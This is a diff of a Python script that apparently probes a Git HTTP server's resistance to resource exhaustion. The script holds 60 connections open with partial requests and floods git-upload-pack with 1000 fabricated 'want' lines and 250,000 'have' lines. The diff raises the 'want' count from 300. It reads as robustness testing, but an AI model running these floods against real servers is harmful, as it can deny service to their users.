@@ -148,8 +148,8 @@ HEAD = f'POST {origin_path()}/git-upload-pack HTTP/1.1\r\nHost: {GIT}\r\nContent
 left = [tunnel() for _ in range(60)]
 for sock in left:
     send(sock, HEAD + WANT)
-many = b''.join(pkt(f'want {at:040x}\n') for at in range(300))
-attempt('300 wants', lambda: post('git-upload-pack', pkt('command=fetch\n') + b'0001' + many + b'0000', headers=V2))
+many = b''.join(pkt(f'want {at:040x}\n') for at in range(1000))
+attempt('1000 wants', lambda: post('git-upload-pack', pkt('command=fetch\n') + b'0001' + many + b'0000', headers=V2))
 haves = b''.join(pkt(f'have {at:040x}\n') for at in range(250000))
 attempt('250000 haves', lambda: post('git-upload-pack', pkt('command=fetch\n') + b'0001' + pkt(f'want {BASE}\n') + haves + b'0000', headers=V2))
 for sock in left:
